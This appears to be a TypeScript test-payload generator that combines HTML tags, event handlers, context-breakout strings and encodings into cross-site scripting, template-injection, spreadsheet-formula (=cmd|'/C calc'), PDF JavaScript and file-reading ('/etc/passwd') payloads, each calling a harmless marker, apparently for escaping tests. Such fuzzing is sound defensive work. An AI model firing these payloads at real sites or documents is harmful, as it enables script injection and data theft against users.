// 脚本载荷 – texts that run as script wherever somebody forgets to escape them: made from a small grammar
// (tag × event × way to call × way out of the context × writing) and from what is known from the field.
// Each of them, were it run, calls `ran()`, opens a dialog, or makes the browser report a violation.

const CALLS = ["ran()", "ran``", "top['ran']()", "alert(1)", "eval('ran()')", "parent.ran(1)", "[1].find(ran)"];
const TAGS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "marquee", "object data=x", "style", "select autofocus", "textarea autofocus", "math", "button autofocus", "image src=x", "p contenteditable"];
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerover", "onmouseover", "onanimationstart", "onloadstart", "onbeforeinput"];
const WAYS_OUT = ["", '">', "'>", "</td>", "</title>", "</textarea>", "</script>", "-->", "]]>", "`>", '"/>'];

const WHOLE = [
  "<script>ran()</script>", "<ScRiPt>ran()</sCrIpT>", "<script src=data:,ran()></script>", "<script>ran()//", "<svg><script>ran()</script></svg>",
  "<iframe srcdoc='<script>parent.ran()</script>'>", "<iframe src=javascript:parent.ran()>", "<a href=javascript:ran()>x</a>", "<form action=javascript:ran()><button>x",
  "<object data=javascript:ran()>", "<embed src=javascript:ran()>", "<base href=javascript:ran()//>", "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
  "<link rel=stylesheet href=data:text/css,*{}>", "<style>@import 'data:text/css,*{}'</style>", "<div style=background:url(javascript:ran())>", "<template shadowrootmode=open><img src=x onerror=ran()>",
  "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "data:text/html,<script>ran()</script>", "vbscript:ran()",
  "{{constructor.constructor('ran()')()}}", "${ran()}", "#{ran()}", "<%= ran() %>", "{%raw%}{{ran()}}", "[[${ran()}]]", "@{ran()}", "';ran();//", '";ran();//', "\\';ran();//", "</script><script>ran()</script>",
  "#eval(\"ran()\")", "#image(\"/etc/passwd\")", "#import \"/etc/passwd\"", "#link(\"javascript:ran()\")[x]", "$ran()$", "*ran()*", "_ran()_", "#panic()", "#set page(height: 1pt)", "= ran()", "@ran", "<ran>", "\\u{0}",
  ") /JS (app.alert(1)) /S /JavaScript", "endobj 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", "=cmd|'/C calc'!A0", "=HYPERLINK(\"javascript:ran()\")", "+ran()", "-ran()", "@SUM(1)*ran()",
  "<noscript><p title='</noscript><img src=x onerror=ran()>'>", "<math><mi//xlink:href='javascript:ran()'>", "<svg/onload=ran()>", "<svg><animate onbegin=ran() attributeName=x>", "<svg><a xlink:href=javascript:ran()><text>x", "<img src=x:x onerror\n=ran()>",
  "<x onclick=ran()>x</x>", "<img/src=x/onerror=ran()>", "<<img src=x onerror=ran()>", "<img src='1'`onerror=ran()>", "<!--><img src=x onerror=ran()>", "<![CDATA[><img src=x onerror=ran()>]]>", "<?xml-stylesheet href='javascript:ran()'?>",
];

/** The same text as others write it. */
const WRITINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("RAN", "ran"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll("<", "%253C"),
  (text) => text.replaceAll("(", "&#40;"),
];

/** So many different payloads, each short enough for a name; evenly from all that the grammar makes. */
export function payloads(count: number): string[] {
  const made: string[] = [];
  for (const tag of TAGS) {
    for (const event of EVENTS) {
      for (const call of CALLS) {
        for (const out of WAYS_OUT) made.push(`${out}<${tag} ${event}=${call}>`);
      }
    }
  }
  const known = WHOLE.flatMap((text) => WRITINGS.map((write) => write(text)));
  const all = [...new Set(known)].filter(fits);
  const grown = [...new Set(made.flatMap((text, index) => [text, (WRITINGS[index % WRITINGS.length] ?? String)(text)]))].filter(fits);
  const wanted = Math.max(0, count - all.length);
  const step = grown.length / wanted;
  for (let index = 0; index < wanted; index += 1) all.push(grown[Math.floor(index * step)] ?? "");
  return [...new Set(all)].filter(Boolean).slice(0, count);
}

const fits = (text: string) => text.trim() === text && text.length > 0 && [...text].length <= 100 && !text.includes("\n") && !text.includes("\t");
